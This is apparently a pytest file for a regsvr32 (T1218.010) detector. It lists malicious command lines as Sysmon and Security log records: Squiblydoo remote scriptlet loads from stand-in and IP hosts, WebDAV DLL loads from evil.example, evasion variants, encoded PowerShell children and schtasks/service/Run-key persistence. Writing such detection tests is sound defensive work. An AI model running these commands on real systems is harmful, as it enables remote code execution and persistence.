"""Attack corpus: every case must score > 0 with the shipped default allowlist loaded.

Sources of the command lines (facts, re-typed here): Atomic Red Team T1218.010 tests 1-5 and the
other Atomic tests that run regsvr32, the LOLBAS Regsvr32 entry, Elastic RTA test strings, and
evasion variants of those (research notes atomic_cases.md section 5, detections.md section 3).
Each record is written in the shape it arrives in Splunk (see events.py).
"""
import pytest

from support.events import (CMD, HOME, REGSVR32, REGSVR32_WOW, SYS32, WOW64, cim, reasons_text, sec4688_classic, sec4688_xml, sysmon1, sysmon3, sysmon7,
                    sysmon8, sysmon11, sysmon13, sysmon22)

pytestmark = pytest.mark.pure

ART = "C:\\AtomicRedTeam\\atomics\\"
TEMP = HOME + "AppData\\Local\\Temp\\"
ROAMING = HOME + "AppData\\Roaming\\"
PUBLIC = "C:\\Users\\Public\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
WMIPRVSE = SYS32 + "wbem\\WmiPrvSE.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
RAW = "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct"
SQUIBLYDOO = "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll"
HKCU = "HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\"
SQUIBLY_PARENT = REGSVR32 + " /s /u /i:" + RAW + " scrobj.dll"

CASES = [
    # --- Atomic Red Team T1218.010 (command_prompt executor: parent cmd.exe) ---------------
    ("art1_local_sct", sysmon1(REGSVR32 + ' /s /u /i:"' + ART + 'T1218.010\\src\\RegSvr32.sct" scrobj.dll')),
    ("art2_remote_sct", sysmon1(REGSVR32 + " /s /u /i:" + RAW + " scrobj.dll")),
    ("art3_local_dll_syswow64", sysmon1("C:\\Windows\\syswow64\\regsvr32.exe /s " + ART + "T1218.010\\bin\\AllTheThingsx86.dll",
                                        image=REGSVR32_WOW)),
    ("art4_non_dll_jpg", sysmon1(REGSVR32 + " /s " + TEMP + "shell32.jpg")),
    ("art5_silent_install_dll", sysmon1(REGSVR32 + ' /s /i "' + ART + 'T1218.010\\bin\\AllTheThingsx86.dll"')),
    # --- other Atomic tests that run regsvr32 ------------------------------------------------
    ("art_t1105_wmi_remote_exec", sysmon1("regsvr32.exe /i C:\\Windows\\Temp\\T1105.exe", parent=WMIPRVSE,
                                          parent_cmdline=WMIPRVSE + " -secured -Embedding", cwd=SYS32,
                                          integrity="High")),
    ("art_t1553_003_sip_register", sysmon1("regsvr32.exe " + ART + "T1553.003\\bin\\GTSIPProvider.dll", integrity="High")),
    ("art_t1553_003_sip_cleanup", sysmon1("regsvr32.exe /u " + ART + "T1553.003\\bin\\GTSIPProvider.dll", integrity="High")),
    # --- LOLBAS Regsvr32 commands with concrete targets --------------------------------------
    ("lolbas1_remote_sct", sysmon1(SQUIBLYDOO)),
    ("lolbas2_local_sct_relative", sysmon1("regsvr32.exe /s /u /i:file.sct scrobj.dll", cwd=HOME + "Downloads\\")),
    ("lolbas2_local_sct_absolute", sysmon1("regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll")),
    ("lolbas3_silent_dll_relative", sysmon1("regsvr32.exe /s payload.dll", cwd=HOME + "Downloads\\")),
    ("lolbas3_silent_dll_public", sysmon1("regsvr32.exe /s C:\\Users\\Public\\payload.dll")),
    ("lolbas4_unregister_dll_public", sysmon1("regsvr32.exe /u /s C:\\Users\\Public\\payload.dll")),
    # --- vendor test strings (Elastic RTA) -------------------------------------------------
    ("rta_copied_regsvr32_in_public", sysmon1(PUBLIC + "regsvr32.exe /c echo scrobj.exe /i:", image=PUBLIC + "regsvr32.exe",
                                              ofn="Cmd.Exe", parent=HOME + "AppData\\Local\\Programs\\Python\\Python311\\python.exe")),
    ("rta_fake_regsvr32_in_cwd", sysmon1("regsvr32.exe cd C:\\Users\\Public\\", image=HOME + "Desktop\\rta\\regsvr32.exe",
                                         ofn="Cmd.Exe", cwd=HOME + "Desktop\\rta\\",
                                         parent=HOME + "AppData\\Local\\Programs\\Python\\Python311\\python.exe")),
    ("rta_silent_txt", sysmon1("regsvr32.exe -s meow.txt", cwd=TEMP,
                               parent=HOME + "AppData\\Local\\Programs\\Python\\Python311\\python.exe")),
    # --- threat patterns (Sigma emerging threats) ---------------------------------------------
    ("qbot_tmp_in_programdata", sysmon1("regsvr32.exe -s C:\\ProgramData\\Ybvjksj\\jdmhgr.tmp")),
    ("bluemushroom_dllentry", sysmon1("regsvr32.exe /s " + HOME + "AppData\\Local\\Temp\\ms.dll,DllEntry")),
    ("evilnum_roaming_ocx", sysmon1("regsvr32.exe /s /i " + ROAMING + "Microsoft\\Media\\mfcx.ocx")),
    ("dridex_excel_temp", sysmon1("regsvr32.exe -s " + TEMP + "kdhfe.xls", parent=EXCEL)),
    ("follina_dll_on_share", sysmon1("regsvr32.exe /s \\\\files.corp-update.example\\pub\\o365.dll")),
    # --- evasion variants ("EV" rows) ---------------------------------------------------------
    ("ev_dash_switches", sysmon1("regsvr32 -s -n -u -i:http://example.com/file.sct scrobj.dll")),
    ("ev_quoted_url_ip", sysmon1('regsvr32 /s /n /u /i:"http://10.1.2.3/a.sct" scrobj.dll')),
    ("ev_n_local_sct", sysmon1("regsvr32 /s /n /u /i:C:\\Users\\alice\\Desktop\\a.sct scrobj.dll")),
    ("ev_renamed_scrobj", sysmon1("regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll")),
    ("ev_unc_after_i", sysmon1("regsvr32 /s /n /u /i:\\\\10.1.2.3\\share\\a.sct scrobj.dll")),
    ("ev_webdav_dll", sysmon1("regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll")),
    ("ev_quoted_jpg", sysmon1('regsvr32 /s "' + TEMP + 'shell32.jpg"')),
    ("ev_forward_slashes", sysmon1("regsvr32 /s C:/Users/Public/x.dat")),
    ("ev_8dot3_programdata", sysmon1("regsvr32 /s C:\\PROGRA~3\\x.dat")),
    ("ev_decoy_program_files_in_url", sysmon1('regsvr32 /s /u "/i:http://example.com/a.sct?x=C:\\Program Files\\y" scrobj.dll')),
    ("ev_ip_url", sysmon1("regsvr32 /s /n /u /i:http://10.1.2.3/a.sct scrobj.dll")),
    ("ev_hex_ip_url", sysmon1("regsvr32 /s /n /u /i:http://0x0a010203/a.sct scrobj.dll")),
    ("ev_full_path_desktop_dll", sysmon1(REGSVR32 + " /s C:\\Users\\alice\\Desktop\\x.dll")),
    ("ev_renamed_binary_ofn", sysmon1("svc.exe /s /u /i:http://example.com/a.sct scrobj.dll", image=PUBLIC + "svc.exe",
                                      ofn="REGSVR32.EXE", cwd=PUBLIC)),
    ("ev_en_dash_switches", sysmon1("regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll")),
    ("ev_em_dash_switches", sysmon1("regsvr32 \u2014s \u2014n \u2014u \u2014i:http://example.com/a.sct scrobj.dll")),
    # --- detections.md section 3 variants ----------------------------------------------------
    ("ev_tab_separators", sysmon1("regsvr32\t/s\t/u\t/i:http://example.com/a.sct\tscrobj.dll")),
    ("ev_concatenated_switches", sysmon1("regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll")),
    ("ev_quoted_switch", sysmon1('regsvr32 /s /u "/i:http://example.com/a.sct" scrobj.dll')),
    ("ev_upper_case_switches", sysmon1("REGSVR32 /S /N /U /I:HTTP://EXAMPLE.COM/A.SCT SCROBJ.DLL")),
    ("ev_dotdot_traversal_to_public", sysmon1(REGSVR32 + " /s C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll")),
    ("ev_octal_ip_url", sysmon1("regsvr32 /s /n /u /i:http://012.01.02.03/a.sct scrobj.dll")),
    ("ev_integer_ip_url", sysmon1("regsvr32 /s /n /u /i:http://167838211/a.sct scrobj.dll")),
    ("ev_ipv6_url", sysmon1("regsvr32 /s /n /u /i:http://[2001:db8::5]/a.sct scrobj.dll")),
    ("ev_file_url", sysmon1("regsvr32 /s /n /u /i:file:///C:/Users/Public/a.sct scrobj.dll")),
    ("ev_long_path_prefix", sysmon1("regsvr32 /s \\\\?\\C:\\Users\\Public\\x.dll")),
    ("ev_ntfs_ads", sysmon1("regsvr32 /s C:\\Users\\Public\\x.txt:payload.dll")),
    ("ev_unexpanded_appdata", sysmon1("regsvr32.exe /s %APPDATA%\\x.dll", parent=PS,
                                      parent_cmdline="powershell.exe -nop -w hidden -c regsvr32.exe /s %APPDATA%\\x.dll")),
    ("ev_unicode_modifier_letter", sysmon1("regsvr32 /s /u /i:http://\u1d49vil.example/a.sct scrobj.dll")),
    ("ev_webdav_ssl_443", sysmon1("regsvr32 /s \\\\files.example.net@SSL@443\\DavWWWRoot\\drop\\x.dll")),
    ("ev_webdav_port_80", sysmon1("regsvr32 /s \\\\files.example.net@80\\share\\x.dll")),
    ("ev_quoted_unc_dll", sysmon1('regsvr32 /s "\\\\10.1.2.3\\share\\x.dll"')),
    ("ev_non_c_drive_cwd", sysmon1("regsvr32.exe /s invoice.dll", parent="C:\\Windows\\explorer.exe", cwd="E:\\")),
    # --- process lineage ----------------------------------------------------------------------
    ("child_calc_of_regsvr32", sysmon1(SYS32 + "calc.exe", image=SYS32 + "calc.exe", parent=REGSVR32, parent_cmdline=SQUIBLY_PARENT)),
    ("child_cmd_of_regsvr32", sysmon1("cmd.exe /c whoami /all", image=CMD, parent=REGSVR32, parent_cmdline=SQUIBLY_PARENT)),
    ("child_powershell_of_regsvr32", sysmon1("powershell.exe -nop -w hidden -enc SQBFAFgA", image=PS, parent=REGSVR32,
                                             parent_cmdline=SQUIBLY_PARENT)),
    ("parent_winword", sysmon1("regsvr32.exe " + TEMP + "mf4xg.dll", parent=WINWORD,
                               parent_cmdline='"' + WINWORD + '" /n "' + HOME + 'Downloads\\invoice.doc" /o ""')),
    ("parent_excel_dash_s", sysmon1("regsvr32 -s " + HOME + "AppData\\Local\\Temp\\lkdsf.ocx", parent=EXCEL)),
    ("parent_mshta", sysmon1("regsvr32.exe /s " + PUBLIC + "upd.ocx", parent=SYS32 + "mshta.exe",
                             parent_cmdline="mshta.exe http://example.com/run.hta")),
    ("parent_wscript", sysmon1("regsvr32.exe /s " + ROAMING + "upd.dll", parent=SYS32 + "wscript.exe",
                               parent_cmdline='"' + SYS32 + 'wscript.exe" "' + HOME + 'Downloads\\invoice.js"')),
    ("parent_wmiprvse", sysmon1("regsvr32.exe /s C:\\ProgramData\\upd.dll", parent=WMIPRVSE, cwd=SYS32,
                                parent_cmdline=WMIPRVSE + " -secured -Embedding")),
    # --- renamed / stripped ------------------------------------------------------------------
    ("renamed_no_ofn_description", sysmon1("wuauclt.exe /s /n /u /i:http://example.com/a.sct scrobj.dll",
                                           image=TEMP + "wuauclt.exe", ofn=None,
                                           Description="Microsoft(C) Register Server",
                                           Product="Microsoft\u00ae Windows\u00ae Operating System",
                                           Company="Microsoft Corporation")),
    ("renamed_no_ofn_plain_dll", sysmon1("C:\\ProgramData\\svc.exe /s C:\\ProgramData\\x.dll",
                                         image="C:\\ProgramData\\svc.exe", ofn=None,
                                         Description="Microsoft(C) Register Server")),
    ("cmdline_without_image_name", sysmon1("/u /s /i:https://example.com/a.sct scrobj.dll")),
    ("no_arguments_spawnto", sysmon1(REGSVR32, parent=SYS32 + "rundll32.exe",
                                     parent_cmdline='"' + SYS32 + 'rundll32.exe" ' + TEMP + "b.dll,Start")),
    ("no_arguments_quoted_wow64", sysmon1('"' + REGSVR32_WOW + '"', image=REGSVR32_WOW, parent=PS,
                                          parent_cmdline="powershell.exe -nop -w hidden -enc SQBFAFgA")),
    # --- non-process telemetry -----------------------------------------------------------------
    ("net_outbound_public_ip", sysmon3("185.199.108.133")),
    ("dns_query_by_regsvr32", sysmon22("raw.githubusercontent.com")),
    ("imageload_scrobj", sysmon7(SYS32 + "scrobj.dll")),
    ("imageload_unsigned_appdata", sysmon7(ROAMING + "Microsoft\\vmtools.dll", signed="false", signature=None,
                                           status="Unavailable", ofn=None)),
    ("imageload_clr", sysmon7("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")),
    ("imageload_mscoree_wow64", sysmon7(WOW64 + "mscoree.dll", image=REGSVR32_WOW)),
    ("remote_thread_from_regsvr32", sysmon8("C:\\Windows\\explorer.exe")),
    ("clr_usagelog_file", sysmon11(HOME + "AppData\\Local\\Microsoft\\CLR_v4.0\\UsageLogs\\regsvr32.exe.log")),
    ("registry_inproc_scrobj", sysmon13(HKCU + "SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\InprocServer32\\(Default)",
                                        "C:\\WINDOWS\\system32\\scrobj.dll", image=SYS32 + "reg.exe")),
    ("registry_remcos_clsid", sysmon13(HKCU + "SOFTWARE\\Classes\\CLSID\\{89565275-A714-4a43-912E-978B935EDCCC}\\InProcServer32\\(Default)",
                                       ROAMING + "remcos\\rmc.dll", image=REGSVR32)),
    # --- persistence that launches regsvr32 with a user-writable module -------------------------
    ("persist_schtasks_create", sysmon1('schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr "regsvr32.exe /s '
                                        + ROAMING + 'upd.dll" /f', image=SYS32 + "schtasks.exe")),
    ("persist_sc_create_service", sysmon1('sc.exe create UpdSvc binPath= "C:\\Windows\\System32\\regsvr32.exe /s C:\\ProgramData\\upd.dll" start= auto',
                                          image=SYS32 + "sc.exe", integrity="High")),
    ("persist_service_imagepath", sysmon13("HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath",
                                           "C:\\Windows\\System32\\regsvr32.exe /s C:\\ProgramData\\upd.dll",
                                           image=SYS32 + "services.exe")),
    ("persist_run_key", sysmon13(HKCU + "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                                 "regsvr32.exe /s " + ROAMING + "upd.dll", image=SYS32 + "reg.exe")),
    ("persist_run_key_unexpanded", sysmon13(HKCU + "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                                            "regsvr32.exe /s %APPDATA%\\upd.dll", image=SYS32 + "reg.exe")),
    # --- the Squiblydoo case in every other input shape ----------------------------------------
    ("squiblydoo_4688_xml", sec4688_xml(SQUIBLYDOO)),
    ("squiblydoo_4688_classic", sec4688_classic(SQUIBLYDOO)),
    ("squiblydoo_cim_bare", cim(SQUIBLYDOO)),
    ("squiblydoo_cim_tstats_prefix", cim(SQUIBLYDOO, prefix="Processes.")),
    ("squiblydoo_eventid_field", {**{k: v for k, v in sysmon1(SQUIBLYDOO).items() if k != "EventCode"}, "EventID": "1"}),
    ("squiblydoo_multivalue_cmdline", {**sysmon1(SQUIBLYDOO), "CommandLine": [SQUIBLYDOO]}),
    ("silent_dat_4688_xml", sec4688_xml(REGSVR32 + " /s C:\\Users\\Public\\x.dat")),
    ("silent_dat_cim_tstats_prefix", cim(REGSVR32 + " /s C:\\Users\\Public\\x.dat", prefix="Processes.")),
]

# Evidence the verdict's reasons must name (case-insensitive). "a|b" means either a or b.
EVIDENCE = {
    "art1_local_sct": ["regsvr32.sct"],
    "art2_remote_sct": ["raw.githubusercontent.com", "scrobj"],
    "art4_non_dll_jpg": ["shell32.jpg"],
    "art_t1105_wmi_remote_exec": ["wmiprvse.exe"],
    "lolbas1_remote_sct": ["example.com", "scrobj"],
    "lolbas2_local_sct_absolute": ["file.sct"],
    "lolbas3_silent_dll_public": ["public"],
    "rta_copied_regsvr32_in_public": ["users\\public"],
    "rta_silent_txt": ["meow.txt"],
    "qbot_tmp_in_programdata": ["jdmhgr.tmp"],
    "follina_dll_on_share": ["files.corp-update.example"],
    "ev_dash_switches": ["example.com"],
    "ev_quoted_url_ip": ["10.1.2.3"],
    "ev_renamed_scrobj": ["example.com", "x.dll"],
    "ev_unc_after_i": ["10.1.2.3"],
    "ev_webdav_dll": ["evil.example"],
    "ev_quoted_jpg": ["shell32.jpg"],
    "ev_forward_slashes": ["x.dat"],
    "ev_8dot3_programdata": ["x.dat"],
    "ev_decoy_program_files_in_url": ["example.com"],
    "ev_hex_ip_url": ["0x0a010203|10.1.2.3"],
    "ev_full_path_desktop_dll": ["desktop"],
    "ev_renamed_binary_ofn": ["svc.exe"],
    "ev_en_dash_switches": ["example.com"],
    "ev_tab_separators": ["example.com"],
    "ev_quoted_switch": ["example.com"],
    "ev_dotdot_traversal_to_public": ["public"],
    "ev_octal_ip_url": ["012.01.02.03|10.1.2.3"],
    "ev_integer_ip_url": ["167838211|10.1.2.3"],
    "ev_ipv6_url": ["2001:db8::5"],
    "ev_ntfs_ads": ["payload.dll"],
    "ev_unexpanded_appdata": ["appdata"],
    "ev_webdav_ssl_443": ["files.example.net"],
    "ev_webdav_port_80": ["files.example.net"],
    "child_calc_of_regsvr32": ["calc.exe"],
    "child_powershell_of_regsvr32": ["powershell.exe"],
    "parent_winword": ["winword.exe"],
    "parent_mshta": ["mshta.exe"],
    "parent_wscript": ["wscript.exe"],
    "net_outbound_public_ip": ["185.199.108.133"],
    "dns_query_by_regsvr32": ["raw.githubusercontent.com"],
    "imageload_scrobj": ["scrobj.dll"],
    "imageload_unsigned_appdata": ["vmtools.dll"],
    "imageload_clr": ["clr.dll"],
    "remote_thread_from_regsvr32": ["explorer.exe"],
    "clr_usagelog_file": ["regsvr32.exe.log"],
    "registry_inproc_scrobj": ["scrobj.dll"],
    "persist_run_key": ["upd.dll"],
    "squiblydoo_4688_xml": ["example.com"],
    "squiblydoo_4688_classic": ["example.com"],
    "squiblydoo_cim_bare": ["example.com"],
    "squiblydoo_cim_tstats_prefix": ["example.com"],
}
BY_ID = dict(CASES)


def test_case_ids_are_unique():
    assert len(BY_ID) == len(CASES)
    assert set(EVIDENCE) <= set(BY_ID)


@pytest.mark.parametrize("record", [c[1] for c in CASES], ids=[c[0] for c in CASES])
def test_attack_is_detected(detector, record):
    v = detector.evaluate(record)
    assert v.error == ""
    assert v.score > 0, (v.allowlisted, v.reasons)
    assert v.rules and v.reasons and v.mitre


@pytest.mark.parametrize("case_id", sorted(EVIDENCE))
def test_reasons_name_the_evidence(detector, case_id):
    text = reasons_text(detector.evaluate(BY_ID[case_id]))
    for word in EVIDENCE[case_id]:
        assert any(alt.casefold() in text for alt in word.split("|")), (word, text)
